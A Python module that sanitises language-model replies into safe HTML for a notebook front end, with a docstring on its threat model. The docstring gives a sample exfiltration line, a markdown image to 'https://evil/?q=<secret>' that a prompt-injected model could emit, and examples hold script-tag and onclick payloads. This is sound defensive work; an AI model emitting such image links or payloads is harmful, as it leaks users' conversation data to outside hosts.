"""Turn model output into HTML that is safe to hand to a notebook front end.

A model's reply is untrusted input: it may repeat a prompt injection, quote a web page, or be
written by a server that is not what it claims to be. JupyterLab renders trusted Markdown and
HTML outputs without sanitising them, and the ipywidgets ``HTML`` widget assigns its value to
``innerHTML`` as given, so whatever string this module returns ends up in the live page of the
notebook, next to the user's kernel and the Jupyter server's API. Hence two layers:

1. markdown-it-py renders the CommonMark preset plus tables and strikethrough with ``html=False``,
   so raw HTML written by the model is escaped and shown as text, never interpreted. Its own
   link validation already refuses ``javascript:``, ``vbscript:`` and ``file:`` links.
2. ``nh3`` (the ammonia sanitiser) then cleans the result against an explicit allowlist, so a
   bug or an unexpected construct in the first layer still cannot produce a script, an event
   handler, a dangerous URL, an embedded document or a stylesheet.

Policy decisions, each with its reason:

- **No images.** Loading ``<img src=...>`` is a request the user never chose to make; a model
  tricked by a prompt injection can put conversation data into the URL (``![](https://evil/?q=
  <secret>)``) and the browser would deliver it on render. A markdown image is therefore shown
  as its alt text only, and ``img`` is not in the allowlist.
- **Links** keep ``href`` (``http``, ``https`` and ``mailto`` only) and ``title``. They open in
  a new tab (``target="_blank"``), because following a link inside the notebook tab would
  navigate away from the notebook, and carry ``rel="noopener noreferrer nofollow"`` so the new
  page gets neither a handle on the notebook window nor its URL.
- **Relative URLs are dropped.** In a notebook they resolve against the Jupyter server, where
  the user is logged in; a model has no business linking there. The link text stays.
- **Code blocks** are highlighted here, by Pygments, into token classes
  (:mod:`.highlight`): ``<div class="highlight"><pre><code class="language-python">`` with a
  ``<span class="k">`` per keyword, and so on. The front end's theme colours the classes; no
  colour or style travels with the reply. ``code`` keeps only its ``language-*`` class, ``span``
  only Pygments' token classes, ``div`` only ``highlight``.
- **Table alignment** is expressed with the ``align`` attribute instead of ``style``, so no
  ``style`` attribute is ever allowed.
- **linkify** (bare URLs becoming links) is off: it needs the optional ``linkify-it-py``
  package, and a bare URL shown as text is harmless.

Speed: the parser and the sanitiser are built once, at import. markdown-it-py spends its time
per token, so prose and code render at about 10 MB/s, while markdown with a list, a link or a
code span on every line runs at 0.3 to 0.7 MB/s, and long runs of unmatched brackets (``[[[``,
``![![``) are slower still.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.rules_core import StateCore
from markdown_it.token import Token

from .highlight import BLOCK_CLASS, TOKEN_CLASSES, render_fence

__all__ = [
    "ALLOWED_TAGS",
    "ALLOWED_URL_SCHEMES",
    "escape_text",
    "parse_markdown",
    "render_markdown",
    "render_text",
    "render_tokens",
    "sanitize_html",
]

#: Tags that may appear in sanitised output. Everything else is removed (its text is kept,
#: except for the tags in ``_DROP_WITH_CONTENT``).
ALLOWED_TAGS: frozenset[str] = frozenset(
    {
        "p",
        "br",
        "hr",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "del",
        "s",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "a",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        # Code blocks only (see _filter_attribute): the highlight block and its tokens.
        "div",
        "span",
    }
)

#: URL schemes allowed in ``href``. Anything else, including ``javascript:``, ``data:`` and
#: ``vbscript:``, loses its ``href``.
ALLOWED_URL_SCHEMES: frozenset[str] = frozenset({"http", "https", "mailto"})

# Elements whose content is code or a foreign document rather than text for the reader: they go
# with everything inside them, so no script text, CSS or SVG markup leaks out as visible text.
_DROP_WITH_CONTENT = {
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "noscript",
    "template",
    "title",
}

_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "code": {"class"},
    "div": {"class"},
    "span": {"class"},
}

_ALIGN_VALUES = {"left", "center", "right"}
_TAG_ATTRIBUTE_VALUES = {"th": {"align": _ALIGN_VALUES}, "td": {"align": _ALIGN_VALUES}}

_LINK_REL = "noopener noreferrer nofollow"

# A language class as markdown-it writes it for a fence's info string; the character set is
# narrow on purpose (it covers c++, c#, objective-c, shell-session, ...).
_LANGUAGE_CLASS = re.compile(r"language-[A-Za-z0-9_+#.-]{1,64}")

# markdown-it writes table alignment as an inline style; it is turned into ``align`` so that
# ``style`` never has to be allowed.
_TEXT_ALIGN_STYLE = re.compile(r"\s*text-align\s*:\s*(left|center|right)\s*;?\s*")


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    """Keep only ``language-*`` classes on ``code``, Pygments' token classes on ``span`` and
    ``highlight`` on ``div``; pass every other allowed attribute."""
    if attribute != "class":
        return value
    if tag == "code":
        classes = [name for name in value.split() if _LANGUAGE_CLASS.fullmatch(name)]
    elif tag == "span":
        classes = [name for name in value.split() if name in TOKEN_CLASSES]
    elif tag == "div":
        classes = [name for name in value.split() if name == BLOCK_CLASS]
    else:
        classes = []
    return " ".join(classes) or None


_CLEANER = nh3.Cleaner(
    tags=set(ALLOWED_TAGS),
    clean_content_tags=_DROP_WITH_CONTENT,
    attributes=_ATTRIBUTES,
    attribute_filter=_filter_attribute,
    strip_comments=True,
    link_rel=_LINK_REL,
    tag_attribute_values=_TAG_ATTRIBUTE_VALUES,
    set_tag_attribute_values={"a": {"target": "_blank"}},
    url_schemes=set(ALLOWED_URL_SCHEMES),
    url_relative="deny",
)


def _cell_align_to_attribute(state: StateCore) -> None:
    """Rewrite ``style="text-align:x"`` on table cells to ``align="x"``."""
    for token in state.tokens:
        if token.type not in ("th_open", "td_open"):
            continue
        style = token.attrs.get("style")
        if not isinstance(style, str):
            continue
        del token.attrs["style"]
        match = _TEXT_ALIGN_STYLE.fullmatch(style)
        if match:
            token.attrSet("align", match.group(1))


def _render_image_as_alt_text(
    self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any
) -> str:
    """Show a markdown image as its (escaped) alt text, so the browser fetches nothing."""
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    return html.escape(alt, quote=False)


def _normalize(state: StateCore) -> None:
    """markdown-it's ``normalize`` rule, done with ``str.replace``.

    The stock rule runs two regex substitutions over the whole text even when there is
    nothing to replace, which is a third of the time of rendering a long paragraph; a
    ``in`` test and ``str.replace`` scan with memchr.
    """
    text = state.src
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    if "\0" in text:
        text = text.replace("\0", "\ufffd")
    state.src = text


def _build_parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    parser.enable(["table", "strikethrough"])
    parser.core.ruler.at("normalize", _normalize)
    parser.core.ruler.push("aivvm_cell_align", _cell_align_to_attribute)
    parser.add_render_rule("image", _render_image_as_alt_text)
    parser.add_render_rule("fence", render_fence)
    parser.add_render_rule("code_block", render_fence)
    return parser


_PARSER = _build_parser()


def sanitize_html(html_text: str) -> str:
    """Clean an HTML fragment with the same allowlist that :func:`render_markdown` applies.

    For HTML assembled elsewhere from untrusted parts. Disallowed tags are removed but their
    text is kept; ``script``, ``style``, ``svg``, ``math``, ``iframe``, ``object``, ``embed``,
    ``noscript``, ``template`` and ``title`` are removed with their content.

    Examples
    --------
    In [1]: sanitize_html('<b onclick="x()">hi</b><script>alert(1)</script>')
    Out[1]: 'hi'
    """
    return _CLEANER.clean(html_text)


def render_markdown(text: str) -> str:
    """Render untrusted markdown (a model's reply) to sanitised HTML.

    Raw HTML in ``text`` is escaped and shown as text; images become their alt text; links
    keep only ``http``, ``https`` and ``mailto`` targets and open in a new tab.

    Examples
    --------
    In [1]: render_markdown("**hi** <script>alert(1)</script>")
    Out[1]: '<p><strong>hi</strong> &lt;script&gt;alert(1)&lt;/script&gt;</p>\\n'
    """
    return render_tokens(*parse_markdown(text))


def parse_markdown(text: str) -> tuple[list[Token], dict[str, Any]]:
    """The token stream of ``text`` and its parse environment, for :func:`render_tokens`."""
    env: dict[str, Any] = {}
    return _PARSER.parse(text, env), env


def render_tokens(tokens: Sequence[Token], env: dict[str, Any]) -> str:
    """Sanitised HTML for a run of whole top-level blocks from :func:`parse_markdown`.

    ``render_markdown(text)`` is ``render_tokens(*parse_markdown(text))``; rendering the
    blocks in slices and joining the results gives the same HTML.
    """
    return _CLEANER.clean(_PARSER.renderer.render(tokens, _PARSER.options, env))


def escape_text(text: str) -> str:
    """Escape ``text`` for use as HTML text content (``&``, ``<``, ``>`` and quotes)."""
    return html.escape(text, quote=True)


def render_text(text: str) -> str:
    """Show ``text`` verbatim, escaped, in ``<pre class="aivvm-text">``.

    For the plain-text output format: nothing in ``text`` is interpreted, and white space and
    line breaks are kept.

    Examples
    --------
    In [1]: render_text("a < b")
    Out[1]: '<pre class="aivvm-text">a &lt; b</pre>'
    """
    return f'<pre class="aivvm-text">{escape_text(text)}</pre>'
